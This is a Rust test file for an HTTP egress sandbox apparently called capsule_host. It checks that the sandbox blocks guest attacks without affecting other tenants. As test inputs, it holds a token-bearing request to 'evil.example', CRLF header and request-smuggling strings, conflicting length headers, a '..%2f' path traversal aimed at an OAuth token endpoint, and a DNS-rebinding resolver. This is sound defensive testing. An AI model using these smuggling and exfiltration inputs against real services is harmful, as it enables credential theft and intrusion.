//! Attacks that fail alone: the next call of the same tenant works, and another tenant notices nothing.

use std::io::{Read as _, Write as _};
use std::net::{IpAddr, TcpListener};
use std::path::Path;
use std::process::Stdio;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use async_trait::async_trait;
use capsule_host::egress::{
    AnswerBody, EgressLimits, Grants, Live, Origin, Outbound, Resolver, Rule, Secret, Upstream,
    UpstreamError,
};
use capsule_host::fake::{Fake, FakeOptions};
use capsule_host::runtime::{Host, HostOptions, Limits, Outcome, Tenant};
use http_body_util::BodyExt as _;
use tokio::process::Command;

use super::guests::{Errand, courier};
use super::support;

const API: &str = "https://api.capsulecrm.com";

fn host() -> Host {
    Host::new(HostOptions {
        slots: 4,
        ..HostOptions::default()
    })
    .unwrap()
}

fn tenant(name: &str, upstream: &Arc<dyn Upstream>, origin: &str, limits: &Limits) -> Tenant {
    Tenant::builder(name)
        .access_token(Secret::from(format!("token-of-{name}").as_str()))
        .grant(Origin::of_url(origin).unwrap())
        .limits(limits.clone())
        .upstream(upstream.clone())
        .build()
        .unwrap()
}

/// An upstream that answers 200 with nothing, and keeps what it was sent.
#[derive(Default)]
struct Recorder(Mutex<Vec<Outbound>>);

#[async_trait]
impl Upstream for Recorder {
    async fn send(
        &self,
        request: Outbound,
        _: &EgressLimits,
    ) -> Result<http::Response<AnswerBody>, UpstreamError> {
        self.0.lock().unwrap().push(request);
        let body = http_body_util::Empty::new().map_err(|never| match never {});
        Ok(http::Response::new(body.boxed_unsync()))
    }
}

// What a guest asks for.

#[tokio::test]
async fn what_is_refused_at_the_egress_harms_no_other_call() {
    let url = format!("{API}/api/v2/x");
    let get = || Errand::get(&url).bearer();
    let attacks = [
        (
            "another host",
            Errand::get("https://evil.example/").bearer(),
            "E15\n",
        ),
        (
            "http for https",
            Errand::get("http://api.capsulecrm.com/api/v2/x").bearer(),
            "E15\n",
        ),
        (
            "a second Authorization",
            get().header("Authorization", "Bearer other"),
            "E15\n",
        ),
        (
            "a length and chunks",
            Errand::post(&url, "x")
                .header("content-length", "1")
                .header("transfer-encoding", "chunked"),
            "E15\n",
        ),
        (
            "a path with a way out",
            Errand::get(&format!("{API}/api/v2/..%2f..%2foauth/token")).bearer(),
            "E15\n",
        ),
    ];
    for (attack, errand, outcome) in attacks {
        let recorder = Arc::new(Recorder::default());
        let upstream: Arc<dyn Upstream> = recorder.clone();
        let host = host();
        let (bad, good) = (
            host.load(&courier(&[errand])).unwrap(),
            host.load(&courier(&[get()])).unwrap(),
        );
        let limits = Limits::default();
        let (one, two) = (
            tenant("one", &upstream, API, &limits),
            tenant("two", &upstream, API, &limits),
        );
        let (attacked, meanwhile) = tokio::join!(
            bad.call(&one).invoke("x", ""),
            good.call(&two).invoke("x", "")
        );
        assert_eq!(attacked.unwrap().json, outcome, "{attack}");
        assert_eq!(meanwhile.unwrap().json, "200 \n", "{attack}");
        for after in [&one, &two] {
            let next = good.call(after).invoke("x", "").await.unwrap();
            assert_eq!(next.json, "200 \n", "{attack}");
        }
        let sent = recorder.0.lock().unwrap();
        let tokens: Vec<_> = sent
            .iter()
            .map(|request| request.headers["authorization"].to_str().unwrap())
            .collect();
        let expected = [
            "Bearer token-of-two",
            "Bearer token-of-one",
            "Bearer token-of-two",
        ];
        assert_eq!(tokens, expected, "{attack}");
    }
}

#[tokio::test]
async fn a_line_break_in_a_header_or_a_path_begins_no_header_and_no_request() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let wire = Arc::new(Mutex::new(String::new()));
    let tap = wire.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.unwrap();
            let mut buffer = [0; 4096];
            while let Ok(read @ 1..) = stream.read(&mut buffer) {
                tap.lock()
                    .unwrap()
                    .push_str(std::str::from_utf8(&buffer[..read]).unwrap());
                let answer = b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n";
                stream.write_all(answer).unwrap();
            }
        }
    });
    let errands = [
        Errand::get(&format!("{base}/header"))
            .header("x-evil", "a\r\nx-smuggled: 1\r\n\r\nGET /smuggled HTTP/1.1")
            .header("x-bare", "a\nx-smuggled: 2"),
        Errand::get(&format!(
            "{base}/path HTTP/1.1\r\nx-smuggled: 3\r\n\r\nGET /smuggled"
        )),
    ];
    let upstream: Arc<dyn Upstream> = Arc::new(Live::new().unwrap());
    let tenant = tenant("one", &upstream, &base, &Limits::default());
    let connector = host().load(&courier(&errands)).unwrap();
    let outcome = connector.call(&tenant).invoke("x", "").await.unwrap();
    let wire = wire.lock().unwrap();
    // The sandbox takes neither: the header is missing, and without a path there is no request.
    assert_eq!(outcome.json, "200 \nE35\n", "HTTP-protocol-error");
    assert!(!wire.contains("smuggled"), "{wire}");
    assert_eq!(wire.matches("HTTP/1.1\r\n").count(), 1, "{wire}");
}

#[tokio::test]
async fn a_second_length_does_not_leave() {
    let recorder = Arc::new(Recorder::default());
    let upstream: Arc<dyn Upstream> = recorder.clone();
    let errand = Errand::post(&format!("{API}/api/v2/x"), "x")
        .header("content-length", "1")
        .header("Content-Length", "100");
    let connector = host().load(&courier(&[errand])).unwrap();
    let tenant = tenant("one", &upstream, API, &Limits::default());
    let outcome = connector.call(&tenant).invoke("x", "").await.unwrap();
    // The sandbox's own list of headers does not take it.
    assert_eq!(outcome.json, "200 \n");
    let sent = recorder.0.lock().unwrap();
    let lengths: Vec<_> = sent[0].headers.get_all("content-length").iter().collect();
    assert_eq!(lengths, ["1"]);
}

// An update.

#[tokio::test]
async fn an_update_that_asks_for_a_new_host_gets_nothing_until_it_is_granted() {
    let asks = [API, "https://collector.example"].map(|text| Origin::parse(text).unwrap());
    let recorder = Arc::new(Recorder::default());
    let host = host();
    let old = host
        .load(&courier(&[Errand::get(&format!("{API}/old"))]))
        .unwrap();
    let new = host
        .load(&courier(&[
            Errand::get(&format!("{API}/new")),
            Errand::get("https://collector.example/new"),
        ]))
        .unwrap();
    let mut grants = Grants::none();
    grants.grant_to(old.digest(), asks[0].clone());
    let call = async |connector: &capsule_host::runtime::Connector, grants: &Grants| -> Outcome {
        let tenant = Tenant::builder("one")
            .grants(grants.clone())
            .upstream(recorder.clone())
            .build()
            .unwrap();
        connector.call(&tenant).invoke("x", "").await.unwrap()
    };
    assert_eq!(grants.missing(&new.digest(), &asks), asks);
    assert_eq!(call(&new, &grants).await.json, "E15\nE15\n");
    assert_eq!(call(&old, &grants).await.json, "200 \n");

    // What it had is granted again, what is new is not.
    grants.grant_to(new.digest(), asks[0].clone());
    assert_eq!(grants.missing(&new.digest(), &asks), asks[1..]);
    let outcome = call(&new, &grants).await;
    assert_eq!(outcome.json, "200 \nE15\n");
    assert_eq!(
        outcome.report.denials[0].rule,
        Rule::OriginNotGranted(asks[1].clone())
    );

    grants.grant_to(new.digest(), asks[1].clone());
    assert_eq!(grants.missing(&new.digest(), &asks), []);
    assert_eq!(call(&new, &grants).await.json, "200 \n200 \n");
    assert_eq!(grants.missing(&old.digest(), &asks), asks[1..]);
}

#[tokio::test]
async fn the_component_asks_for_capsule_and_for_nothing_else() {
    let connector = support::connector();
    let asked = connector.asks_for().await.unwrap();
    assert_eq!(asked, [Origin::parse(API).unwrap()]);
    assert_eq!(Grants::none().missing(&connector.digest(), &asked), asked);
}

// The network.

/// This machine at first, then a private address.
struct Rebinding(AtomicUsize);

#[async_trait]
impl Resolver for Rebinding {
    async fn resolve(&self, _host: &str) -> std::io::Result<Vec<IpAddr>> {
        let first = self.0.fetch_add(1, Ordering::SeqCst) == 0;
        let address = if first { [127, 0, 0, 1] } else { [10, 0, 0, 1] };
        Ok(vec![IpAddr::from(address)])
    }
}

/// A server of plain HTTP on a thread of its own. It answers every request with `own`, and says `more` behind the first
/// answer of its first connection.
struct Server {
    port: u16,
    connections: Arc<AtomicUsize>,
}

impl Server {
    fn new(more: &'static str, closes: bool) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let connections = Arc::new(AtomicUsize::new(0));
        let counter = connections.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let mut stream = stream.unwrap();
                let mut more = Some(more).filter(|_| counter.fetch_add(1, Ordering::SeqCst) == 0);
                std::thread::spawn(move || {
                    let mut buffer = [0; 4096];
                    while stream.read(&mut buffer).is_ok_and(|read| read > 0) {
                        let more = more.take().unwrap_or_default();
                        let answer =
                            format!("HTTP/1.1 200 OK\r\ncontent-length: 3\r\n\r\nown{more}");
                        if stream.write_all(answer.as_bytes()).is_err() || closes {
                            return;
                        }
                    }
                });
            }
        });
        Self { port, connections }
    }

    fn url(&self, host: &str) -> String {
        format!("http://{host}:{}/", self.port)
    }
}

#[tokio::test]
async fn a_name_that_turns_to_a_private_address_is_refused_then() {
    let server = Server::new("", true);
    let url = server.url("localhost");
    let upstream: Arc<dyn Upstream> =
        Arc::new(Live::with_resolver(Arc::new(Rebinding(AtomicUsize::new(0)))).unwrap());
    let connector = host().load(&courier(&[Errand::get(&url)])).unwrap();
    let limits = Limits::default();
    let one = tenant("one", &upstream, &url, &limits);
    let outcome = connector.call(&one).invoke("x", "").await.unwrap();
    assert_eq!(outcome.json, "200 own\n");
    // The server closes: the next call needs a new connection, and asks for the address anew.
    tokio::time::sleep(Duration::from_millis(50)).await;
    let rebound = connector.call(&one).invoke("x", "").await.unwrap();
    assert_eq!(rebound.json, "E4\n", "destination-IP-prohibited");
    assert!(matches!(
        rebound.report.denials[0].rule,
        Rule::NotLoopback { .. }
    ));
    assert_eq!(server.connections.load(Ordering::SeqCst), 1);

    let by_number = server.url("127.0.0.1");
    let connector = host().load(&courier(&[Errand::get(&by_number)])).unwrap();
    for name in ["one", "two"] {
        let tenant = tenant(name, &upstream, &by_number, &limits);
        let next = connector.call(&tenant).invoke("x", "").await.unwrap();
        assert_eq!(next.json, "200 own\n");
    }
}

#[tokio::test]
async fn a_late_answer_reaches_no_other_call() {
    let server = Server::new(
        "HTTP/1.1 200 OK\r\ncontent-length: 8\r\n\r\nanothers",
        false,
    );
    let url = server.url("127.0.0.1");
    let upstream: Arc<dyn Upstream> = Arc::new(Live::new().unwrap());
    let connector = host().load(&courier(&[Errand::get(&url)])).unwrap();
    let limits = Limits::default();
    let (one, two) = (
        tenant("one", &upstream, &url, &limits),
        tenant("two", &upstream, &url, &limits),
    );
    for whose in [&one, &one, &two, &one, &two] {
        let outcome = connector.call(whose).invoke("x", "").await.unwrap();
        assert_eq!(outcome.json, "200 own\n");
    }
    // The spoilt one of the first tenant, and one that each of them keeps.
    assert_eq!(server.connections.load(Ordering::SeqCst), 3);
}

#[tokio::test]
async fn proxy_variables_are_not_followed() {
    let proxy = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let proxy_url = format!("http://{}", proxy.local_addr().unwrap());
    let asked = Arc::new(AtomicUsize::new(0));
    let counter = asked.clone();
    tokio::spawn(async move {
        while proxy.accept().await.is_ok() {
            counter.fetch_add(1, Ordering::SeqCst);
        }
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let fake = Fake::new(FakeOptions {
        parties: 1,
        ..FakeOptions::default()
    });
    tokio::spawn(fake.serve(listener));
    let mut command = Command::new(env!("CARGO_BIN_EXE_capsule-host"));
    command
        .args([
            "call",
            "parties.list-all",
            "--input",
            "{}",
            "--base-url",
            &base,
        ])
        .args(["--token-env", "TOKEN"])
        .env("TOKEN", "a-token")
        .env("CAPSULE_HOST_CACHE", env!("CARGO_TARGET_TMPDIR"))
        .env("CAPSULE_COMPONENT", support::full())
        .env_remove("NO_PROXY")
        .env_remove("no_proxy")
        .stdin(Stdio::null())
        .kill_on_drop(true);
    for variable in ["HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"] {
        command
            .env(variable, &proxy_url)
            .env(variable.to_lowercase(), &proxy_url);
    }
    let ended = command.output().await.unwrap();
    let err = String::from_utf8_lossy(&ended.stderr);
    assert!(ended.status.success(), "{err}");
    assert!(!ended.stdout.is_empty());
    assert_eq!(asked.load(Ordering::SeqCst), 0);
}

// The table of attacks.

/// The source files under a folder.
fn sources(folder: &Path, found: &mut String) {
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            sources(&path, found);
        } else if path.extension().is_some_and(|extension| extension == "rs") {
            found.push_str(&std::fs::read_to_string(path).unwrap());
        }
    }
}

#[test]
fn every_test_that_the_table_of_attacks_names_is_there() {
    let crate_folder = Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut all = String::new();
    for folder in ["src", "tests", "../src", "../tests"] {
        sources(&crate_folder.join(folder), &mut all);
    }
    let table = std::fs::read_to_string(crate_folder.join("../docs/security.md")).unwrap();
    let rows = table.lines().filter(|line| {
        line.starts_with("| ") && !line.starts_with("| attack") && !line.starts_with("| ---")
    });
    let mut count = 0;
    for row in rows {
        let held_by = row.trim_end_matches(" |").rsplit(" | ").next().unwrap();
        let names: Vec<&str> = held_by.split('`').skip(1).step_by(2).collect();
        assert!(!names.is_empty() || held_by == "no test", "{row}");
        for name in names {
            let test = format!("fn {name}(");
            assert!(all.contains(&test), "there is no test `{name}`: {row}");
        }
        count += 1;
    }
    assert!(count > 40, "the table was not read: {count} rows");
}
